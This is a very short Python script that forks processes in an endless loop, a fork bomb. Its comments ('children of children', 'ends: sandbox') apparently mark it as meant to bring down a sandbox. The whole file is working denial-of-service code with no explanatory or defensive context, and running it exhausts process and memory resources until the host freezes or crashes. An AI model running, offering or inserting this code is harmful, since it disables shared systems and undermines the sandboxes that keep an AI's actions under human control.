# note: children of children
# ends: sandbox
import os

while True:
    os.fork()
